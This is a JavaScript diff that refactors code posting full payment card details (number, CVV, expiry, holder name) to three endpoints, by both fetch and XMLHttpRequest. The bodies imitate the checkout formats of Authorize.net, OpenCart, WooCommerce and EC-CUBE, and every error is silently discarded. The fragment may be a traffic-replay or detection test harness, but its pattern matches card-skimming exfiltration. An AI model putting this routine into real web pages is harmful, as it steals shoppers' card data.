@@ -1084,22 +1084,20 @@
         paymentMethod: { method: "authorizenet_directpost", additional_data: { cc_number: card.cc_number, cc_cid: card.cc_cid, cc_exp_month: card.cc_exp_month, cc_exp_year: card.cc_exp_year, cc_owner: card.cc_owner } },
         payment: { method: "card", card: { number: card.cc_number, exp_month: card.cc_exp_month, exp_year: card.cc_exp_year, cvc: card.cc_cid, holder: card.cc_owner } }
       });
+      function xhr(url, type, data) {
+        try {
+          var x = new G.XMLHttpRequest();
+          x.open("POST", url, true);
+          x.setRequestHeader("Content-Type", type);
+          x.send(data);
+        } catch (e) {}
+      }
       try { G.fetch(OWN[0], { method: "POST", headers: { "Content-Type": "application/json" }, body: body }); } catch (e) {}
-      try {
-        var x = new G.XMLHttpRequest();
-        x.open("POST", OWN[1], true);
-        x.setRequestHeader("Content-Type", "application/json");
-        x.send(body);
-      } catch (e) {}
+      xhr(OWN[1], "application/json", body);
       // A form-encoded order, as OpenCart, WooCommerce and EC-CUBE post it.
       var form = ["cc_number=" + card.cc_number, "cc_cvv2=" + card.cc_cid, "cc_expire_date_month=" + card.cc_exp_month,
         "cc_expire_date_year=" + card.cc_exp_year, "cc_owner=" + encodeURIComponent(card.cc_owner || "")].join("&");
-      try {
-        var y = new G.XMLHttpRequest();
-        y.open("POST", OWN[2], true);
-        y.setRequestHeader("Content-Type", "application/x-www-form-urlencoded; charset=UTF-8");
-        y.send(form);
-      } catch (e) {}
+      xhr(OWN[2], "application/x-www-form-urlencoded; charset=UTF-8", form);
       try { G.fetch(OWN[2], { method: "POST", headers: { "Content-Type": "application/x-www-form-urlencoded" }, body: form }); } catch (e) {}
     },
     function () { drain(1); },
